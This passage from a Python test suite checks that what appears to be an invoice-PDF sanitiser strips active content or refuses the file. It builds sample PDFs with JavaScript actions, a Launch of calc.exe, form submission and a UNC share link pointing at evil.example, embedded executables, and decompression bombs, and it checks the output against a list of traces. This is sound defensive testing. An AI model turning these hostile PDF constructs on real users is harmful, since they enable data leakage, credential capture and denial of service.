    ),
    "field": make_files.page_pdf(
        catalog=b"/AcroForm << /Fields [10 0 R] >>",
        page=b"/Annots [10 0 R]",
        more={10: b"<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K " + JAVASCRIPT + b" >> >>"},
    ),
    "kid of a field": make_files.page_pdf(
        catalog=b"/AcroForm << /Fields [<< /T (a) /Kids [<< /FT /Btn /A " + JAVASCRIPT + b" >>] >>] >>"
    ),
    "bookmark": make_files.page_pdf(
        catalog=b"/Outlines 10 0 R",
        more={
            10: b"<< /First 11 0 R /Last 11 0 R /Count 1 >>",
            11: b"<< /Title (a) /Parent 10 0 R /A " + JAVASCRIPT + b" >>",
        },
    ),
    "unheard-of place": make_files.page_pdf(catalog=b"/Zz [[<< /Yy [" + JAVASCRIPT + b"] >>]]"),
    "launch": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /Link /A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >> >>]"
    ),
    "submit": make_files.page_pdf(catalog=b"/Zz << /S /SubmitForm /F (http://evil.example/submit) >>"),
    "import": make_files.page_pdf(catalog=b"/Zz << /S /ImportData /F (evil.fdf) >>"),
    "another file": make_files.page_pdf(catalog=b"/Zz << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>"),
    "embedded file": make_files.page_pdf(catalog=b"/Zz << /S /GoToE /F (evil.pdf) /D [0 /Fit] >>"),
    "script link": make_files.page_pdf(catalog=b"/Zz << /S /URI /URI (javascript:app.alert\\(1\\)) >>"),
    "file link": make_files.page_pdf(catalog=b"/Zz << /S /URI /URI (file://evil.example/share) >>"),
    "attachment": make_files.page_pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >> /AF [10 0 R]",
        more={
            10: b"<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 11 0 R >> >>",
            11: make_files.stream(b"evil program", b"/Type /EmbeddedFile"),
        },
    ),
    "attachment without a type": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (evil.exe) /EF << /F 11 0 R >> >> >>]",
        more={11: make_files.stream(b"evil program")},
    ),
    "attachment in an unheard-of place": make_files.page_pdf(
        catalog=b"/Zz << /F (a.exe) /EF << /F 11 0 R >> >>", more={11: make_files.stream(b"evil program")}
    ),
    "opens at a place": make_files.page_pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    "sound elsewhere": make_files.page_pdf(catalog=b"/Zz << /S /Sound /Volume 1 >>"),
    "film elsewhere": make_files.page_pdf(catalog=b"/Zz << /S /Rendition /OP 0 >>"),
    "film": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS (app.alert\\(1\\)) /OP 0 >> >>]"
    ),
    "rich media": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /RichMedia /RichMediaContent << /Assets << >> /Evil (evil.swf) >> >>]"
    ),
    "sound and 3D": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /Sound /Sound 10 0 R >> << /Subtype /3D /3DD 11 0 R >>]",
        more={10: make_files.stream(b"evil sound"), 11: make_files.stream(b"evil model", b"/Type /3D")},
    ),
    "form that is a program": make_files.page_pdf(
        catalog=b"/AcroForm << /Fields [11 0 R] /XFA [(template) 10 0 R] >>",
        more={10: make_files.stream(b"<xdp>evil</xdp>"), 11: b"<< /FT /Tx /T (total) >>"},
    ),
    "content from elsewhere": make_files.page_pdf(
        page=b"/Resources << /XObject << /X 10 0 R >> >>",
        more={10: make_files.stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F (http://evil.example/x)")},
    ),
    "loop of actions": make_files.page_pdf(
        catalog=b"/OpenAction 10 0 R",
        more={10: b"<< /S /JavaScript /JS (app.alert\\(1\\)) /Next 11 0 R >>", 11: b"<< /S /GoTo /Next 10 0 R >>"},
    ),
}


TRACES = [
    *(b"app.alert", b"evil", b"calc.exe", b"/JavaScript", b"/Launch", b"/Rendition", b"/OpenAction", b"/AA"),
    *(b"/EF", b"/EmbeddedFile", b"/Collection", b"/XFA", b"/NeedsRendering"),
    *(b"/RichMedia", b" /Sound", b"/Screen", b"/Subtype /3D"),
]


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE)
def test_active_content_is_taken_out(content: bytes, target: Path) -> None:
    assert made(content, target).pages == 1

    with pikepdf.open(target, attempt_recovery=False) as pdf:
        assert pdf.pages[0].Contents.read_bytes() == b"0 0 1 rg 10 10 50 50 re f"
        assert not pdf.check_pdf_syntax()
        assert not pdf.attachments
        assert all(len(annotation) for annotation in pdf.pages[0].get("/Annots", []))
    text = target.with_suffix(".txt")
    readable(target, text)
    for trace in TRACES:
        assert trace not in text.read_bytes(), trace


def readable(source: Path, target: Path) -> None:
    """Unpack everything, so that traces can be searched for."""
    with pikepdf.open(source) as pdf:
        pdf.save(target, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def test_active_content_in_packed_objects_is_taken_out(target: Path) -> None:
    packed = io.BytesIO()
    with pikepdf.open(io.BytesIO(ACTIVE["name tree"])) as pdf:
        pdf.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in packed.getvalue()

    assert made(packed.getvalue(), target) == Result(1)

    readable(target, target.with_suffix(".txt"))
    assert b"JavaScript" not in target.with_suffix(".txt").read_bytes()


def test_links_fields_and_pictures_stay(target: Path) -> None:
    content = make_files.page_pdf(
        catalog=b"/AcroForm << /Fields [11 0 R] >> /Outlines 12 0 R",
        page=b"/Annots [10 0 R 11 0 R] /Resources << /XObject << /AA 14 0 R >> >>",
        more={
            10: b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://shop.example/bill?id=1) >> >>",
            11: b"<< /Subtype /Widget /FT /Tx /T (total) /V (1.500) /Rect [0 0 9 9] >>",
            12: b"<< /First 13 0 R /Last 13 0 R /Count 1 >>",
            13: b"<< /Title (Total) /Parent 12 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
            14: make_files.stream(b"0 g", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"),
        },
    )

    assert made(content, target) == Result(1)

    with pikepdf.open(target) as pdf:
        page = pdf.pages[0]
        assert str(page.Annots[0].A.URI) == "https://shop.example/bill?id=1"
        assert str(pdf.Root.AcroForm.Fields[0].V) == "1.500"
        assert pdf.Root.Outlines.First.A.D[0].objgen == page.obj.objgen
        assert page.Resources.XObject.AA.read_bytes() == b"0 g"


def test_a_resource_that_is_named_like_an_action_stays(target: Path) -> None:
    names = [b"AA", b"EF", b"RF", b"AF", b"JS", b"JavaScript", b"OpenAction", b"XFA", b"Collection", b"Renditions"]
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    kinds = {
        b"Font": font,
        b"ColorSpace": b"[/CalRGB << /WhitePoint [1 1 1] >>]",
        b"ExtGState": b"<< /ca 0.5 /SMask /None >>",
        b"Pattern": b"<< /PatternType 2 /Shading << /ShadingType 2 /ColorSpace /DeviceGray >> >>",
        b"Properties": b"<< /Type /OCG /Name (layer) >>",
    }
    resources = b"".join(
        b"/%s << %s >>" % (kind, b" ".join(b"/%s %s" % (name, value) for name in names))
        for kind, value in kinds.items()
    )
    content = make_files.page_pdf(
        page=b"/Resources << %s /XObject << /EF 14 0 R /AA 14 0 R /OpenAction 14 0 R >> >> /Annots [10 0 R]"
        % resources,
        more={
            10: b"<< /Subtype /Widget /Rect [0 0 9 9] /AS /AA /AP << /N << /AA 14 0 R /Off 14 0 R >> >> >>",
            14: make_files.stream(b"0 g", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"),
        },
    )

    assert made(content, target) == Result(1)

    with pikepdf.open(target) as pdf:
        page = pdf.pages[0]
        for kind in kinds:
            assert set(page.Resources[f"/{kind.decode()}"].keys()) == {f"/{name.decode()}" for name in names}, kind
        assert set(page.Resources.XObject.keys()) == {"/EF", "/AA", "/OpenAction"}
        assert set(page.Annots[0].AP.N.keys()) == {"/AA", "/Off"}


DISGUISED = {
    "events of a font": b"/AA << /Type /Font /WC 10 0 R >>",
    "events of an emptied font": b"/AA << /Type /Font /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
    "files of a font": b"/Zz << /F (a) /EF << /Type /Font /F 11 0 R >> >>",
    "files of a graphics state": b"/Zz << /F (a) /EF << /Type /ExtGState /UF [11 0 R] >> >>",
    "script of a font": b"/OpenAction << /Type /Font /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "form that is a picture": b"/AcroForm << /Fields [12 0 R] /XFA 13 0 R >>",
}


@pytest.mark.parametrize("catalog", DISGUISED.values(), ids=DISGUISED)
def test_what_acts_is_taken_out_whatever_it_says_that_it_is(catalog: bytes, target: Path) -> None:
    more = {
        10: JAVASCRIPT,
        11: make_files.stream(b"evil program"),
        12: b"<< /FT /Tx /T (total) >>",
        13: make_files.stream(b"<xdp>evil</xdp>", b"/Subtype /Form"),
    }
    # The same dictionary is called a list of fonts elsewhere.
    content = make_files.page_pdf(catalog + b" /Resources << /Font 1 0 R >>", more=more)
    assert made(content, target).pages == 1
    readable(target, target.with_suffix(".txt"))
    for trace in (b"app.alert", b"evil", b"/JavaScript", b"/EF", b"/AA"):
        assert trace not in target.with_suffix(".txt").read_bytes(), trace


def attachments(*names: bytes) -> dict[int, bytes]:
    """Return objects: a tree of names at 10, and files that hang there."""
    tree = b" ".join(b"(%d) %d 0 R" % (n, 20 + 2 * n) for n in range(len(names)))
    files = {10: b"<< /Names [%s] >>" % tree}
    for n, name in enumerate(names):
        files[20 + 2 * n] = b"<< /Type /Filespec /F (x) /UF (%s) /EF << /F %d 0 R >> >>" % (name, 21 + 2 * n)
        files[21 + 2 * n] = make_files.stream(b"<invoice/>", b"/Type /EmbeddedFile")
    return files


def test_an_invoice_with_a_file_within_says_that_only_the_original_has_it(target: Path) -> None:
    catalog = b"/Names << /EmbeddedFiles 10 0 R >> /AF [20 0 R]"
    result = made(make_files.page_pdf(catalog, more=attachments(b"factur-x.xml")), target)
    assert result.pages == 1
    assert result.notice == "Files are attached to this PDF. They are only in the original: factur-x.xml."
    many = made(make_files.page_pdf(catalog, more=attachments(*[b"%d" % n + b"x" * 99 for n in range(9)])), target)
    assert "only in the original: 0xxx" in many.notice
    assert many.notice.endswith("… and 6 more.")
    assert len(many.notice) < 300


def test_a_cover_without_its_content_is_not_taken_for_the_receipt(target: Path) -> None:
    portfolio = b"/Names << /EmbeddedFiles 10 0 R >> /Collection << /View /D >>"
    assert refusal(make_files.page_pdf(portfolio, more=attachments(b"a.pdf")), target) == rules.PORTFOLIO
    assert made(make_files.page_pdf(b"/Collection << /View /D >>"), target) == Result(1)
    hidden = portfolio.replace(b"/View /D", b"/View /H")
    assert made(make_files.page_pdf(hidden, more=attachments(b"a.pdf")), target).notice.endswith("original: a.pdf.")
    xfa = {10: make_files.stream(b"<xdp/>"), 11: b"<< /FT /Tx /T (total) >>"}
    for catalog in (
        b"/NeedsRendering true /AcroForm << /Fields [11 0 R] /XFA [(template) 10 0 R] >>",
        b"/AcroForm << /Fields [] /XFA 10 0 R >>",
    ):
        assert refusal(make_files.page_pdf(catalog, more=xfa), target) == rules.LIVE_FORM
    assert made(make_files.page_pdf(b"/AcroForm << /Fields [11 0 R] /XFA 10 0 R >>", more=xfa), target) == Result(
        1, notice=rules.FORM
    )


def test_pages_are_counted(target: Path) -> None:
    assert made(make_files.pdf(3), target) == Result(3)
    with pikepdf.open(target) as pdf:
        assert len(pdf.pages) == 3
        assert [page.mediabox[3] for page in pdf.pages] == [300, 300, 300]


def test_the_number_of_pages_has_bounds(target: Path) -> None:
    assert made(make_files.pdf(rules.MAX_PAGES), target) == Result(rules.MAX_PAGES)
    assert refusal(make_files.pdf(rules.MAX_PAGES + 1), target) == rules.TOO_MANY_PAGES
    assert refusal(make_files.pdf(0), target) == rules.NO_PAGES


def test_a_pdf_with_a_password_is_refused(target: Path) -> None:
    assert refusal(make_files.protected_pdf("secret", "owner"), target) == rules.PROTECTED


@pytest.mark.parametrize(
    ("user", "owner", "strength"),
    [("", "owner", 3), ("", "owner", 4), ("", "owner", 6), ("", "", 4), ("secret", "", 6)],
)
def test_a_pdf_that_opens_without_a_password_is_taken_and_saved_plain(
    user: str, owner: str, strength: int, target: Path
) -> None:
    content = make_files.protected_pdf(user, owner, R=strength, aes=strength > 3, metadata=strength > 3)
    assert made(content, target) == Result(1)
    with pikepdf.open(target) as pdf:
        assert not pdf.is_encrypted
        assert pdf.pages[0].Contents.read_bytes() == b"0 0 1 rg 10 10 1 50 re f"


def test_a_pdf_for_certain_readers_is_refused(target: Path) -> None:
    content = make_files.page_pdf(more={10: b"<< /Filter /Adobe.PubSec /V 4 >>"})
    content = content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 10 0 R /ID [(a) (a)]")
    assert refusal(content, target) == rules.PROTECTED


BEFORE = {
    "byte order mark": b"\xef\xbb\xbf",
    "blank lines": b"\r\n\r\n",
    "warnings": b"<br />\n<b>Warning</b>:  Undefined variable $x in <b>/var/www/bill.php</b> on line <b>7</b><br />\n"
    * 5,
    "headers": b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\nContent-Length: 900\r\n\r\n",
    "a printer's orders": b"\x1b%-12345X@PJL ENTER LANGUAGE=PDF\r\n",
    "a header of binary": bytes(range(128)),
    "as much as may be": b"\n" * 1019,
}
AFTER = {
    "zeros": bytes(9_000),
    "many zeros": bytes(1_000_000),
    "newlines": b"\r\n" * 3_000,
    "blanks": b" " * 5_000,
    "a page": b"\n<html><body>Fatal error: Call to undefined object 1 objected</body></html>" * 80,
    "noise": bytes(range(256)) * 40,
}


@pytest.mark.parametrize(
    "content",
    [before + make_files.pdf(2) for before in BEFORE.values()]
    + [make_files.pdf(2) + after for after in AFTER.values()]
    + [BEFORE["warnings"] + make_files.pdf(2, linearize=True) + AFTER["zeros"]],
    ids=[*BEFORE, *AFTER, "both"],
)
def test_what_a_program_left_before_and_after_a_pdf_is_passed_over(content: bytes, target: Path) -> None:
    assert rules.check_upload(io.BytesIO(content)) == "pdf"
    assert made(content, target) == Result(2)
    with pikepdf.open(target, attempt_recovery=False) as pdf:
        assert [page.Contents.read_bytes() for page in pdf.pages] == [
            b"0 0 1 rg 10 10 %d 50 re f" % number for number in (1, 2)
        ]


BROKEN = {
    "nothing but the name": b"%PDF-1.7\n%%EOF",
    "noise": b"%PDF-1.7\n" + bytes(range(256)) * 50 + b"%%EOF",
    "no catalog": make_files.raw_pdf({1: b"<< /Type /Other >>"}),
    "root is a number": make_files.raw_pdf({1: b"7"}),
    "no root": make_files.raw_pdf({1: b"<< /Type /Catalog >>"}, trailer=b""),
    "no page tree": make_files.raw_pdf({1: b"<< /Type /Catalog >>"}),
    "page tree is its own kid": make_files.raw_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}
    ),
    "page tree in a circle": make_files.raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        }
    ),
    "endless nesting": make_files.page_pdf(catalog=b"/X " + b"[" * 100_000 + b"]" * 100_000),
}


@pytest.mark.parametrize("content", BROKEN.values(), ids=BROKEN)
def test_a_broken_pdf_is_a_sentence(content: bytes, target: Path) -> None:
    assert refusal(content, target) in (rules.DAMAGED_PDF, rules.NO_PAGES)


def test_a_pdf_cut_off_anywhere_is_a_sentence(target: Path) -> None:
    whole = make_files.pdf(20)
    for part in (0.02, 0.3, 0.6, 0.9, 0.99):
        assert refusal(whole[: int(len(whole) * part)], target) == rules.DAMAGED_PDF


def test_a_pdf_with_a_wrong_table_of_contents_is_mended(target: Path) -> None:
    content = make_files.pdf(2).replace(b"startxref\n", b"startxref\n9")
    assert made(content, target) == Result(2)


@pytest.mark.parametrize(
    "content",
    [
        make_files.page_pdf(catalog=b"/A 10 0 R", more={10: b"[10 0 R 11 0 R]", 11: b"<< /B 10 0 R /C 11 0 R >>"}),
        make_files.page_pdf(page=b"/Annots [3 0 R]"),
        make_files.page_pdf(page=b"/Annots 3 0 R"),
        make_files.page_pdf(page=b"/Annots [null 7 (x) [] << >> 99 0 R]"),
        make_files.page_pdf(catalog=b"/AcroForm 1 0 R /Names 2 0 R"),
    ],
    ids=["objects in a circle", "page is its annotation", "page for a list", "not annotations", "wrong objects"],
)
def test_strange_references_hold_nothing_up(content: bytes, target: Path) -> None:
    assert made(content, target) == Result(1)


def test_a_stream_that_unpacks_to_gigabytes_is_not_unpacked(target: Path) -> None:
    answer, megabytes = peak(make_files.page_pdf(more={4: make_files.packed(1 << 30)}), target)
    assert answer == {"pages": 1, "notice": ""}
    assert megabytes <= 120
    assert target.stat().st_size < 2_000_000


def test_packed_objects_that_unpack_to_gigabytes_are_a_sentence_within_the_limit(target: Path) -> None:
    bomb = make_files.packed(1 << 30).replace(b"<<", b"<< /Type /ObjStm /N 1 /First 10", 1)
    content = make_files.raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< >>", 5: bomb})
    # The table is packed itself: object 2 is said to be within stream 5.
    rows = {0: (0, 0, 0), 1: (1, content.index(b"1 0 obj"), 0), 2: (2, 5, 0), 5: (1, content.index(b"5 0 obj"), 0)}
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([rest]) for kind, place, rest in rows.values())
    body = content[: content.index(b"xref\n")]
    entries = b"/Type /XRef /W [1 4 1] /Size 7 /Index [0 3 5 1] /Root 1 0 R"
    full = body + b"6 0 obj\n" + make_files.stream(table, entries)
    full += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)

    answer, megabytes = peak(full, target)

    assert answer["reason"] in (rules.TOO_COMPLEX, rules.DAMAGED_PDF, rules.NO_PAGES)
    assert megabytes <= 400
